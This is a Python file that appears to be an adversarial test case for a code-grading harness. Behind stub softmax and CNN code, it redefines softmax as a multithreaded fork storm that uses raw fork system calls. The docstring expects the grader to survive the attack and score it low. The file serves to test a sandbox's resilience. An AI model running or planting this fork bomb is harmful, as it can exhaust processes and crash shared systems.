"""
attack: df-vfork-storm
class: dos-fork
tries: forks in raw system calls from many threads, each child forking again
must: score 0|partial, verdict wrong|error|crash|timeout|memory, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None)


def softmax(x, dim):
    top = os.getpid()
    end = time.monotonic() + 1.5
    def storm():
        for _ in range(60):
            if libc.syscall(57) == 0:
                while time.monotonic() < end:
                    libc.syscall(57)
                os._exit(0)
    threads = [threading.Thread(target=storm) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    time.sleep(2)
    return torch.zeros_like(x)
